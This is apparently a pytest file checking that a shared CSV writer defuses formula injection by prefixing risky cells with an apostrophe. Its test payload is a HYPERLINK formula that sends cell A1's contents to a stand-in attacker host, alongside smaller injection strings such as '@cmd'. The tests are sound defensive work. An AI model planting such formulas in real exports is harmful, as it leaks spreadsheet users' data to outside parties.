"""The shared CSV writer neutralises cells a spreadsheet would evaluate (CSV / formula injection)."""

import csv
import io
from decimal import Decimal

import pytest

from hromada.core.csvcells import SafeDictWriter, SafeWriter, safe_cell

PAYLOAD = '=HYPERLINK("https://evil.example/?"&A1;"Click")'


@pytest.mark.parametrize("text", [PAYLOAD, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Сквер біля ліцею", "a=b", "", -5, 2.5, Decimal("-10.00"), None, True])
def test_other_cells_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_writers_round_trip_the_neutralised_text():
    out = io.StringIO()
    SafeWriter(out, lineterminator="\n").writerow([PAYLOAD, -5, "ok"])
    table = SafeDictWriter(out, fieldnames=["title", "cost"], lineterminator="\n")
    table.writerow({"title": "@cmd", "cost": None})

    rows = list(csv.reader(io.StringIO(out.getvalue())))

    assert rows == [["'" + PAYLOAD, "-5", "ok"], ["'@cmd", ""]]
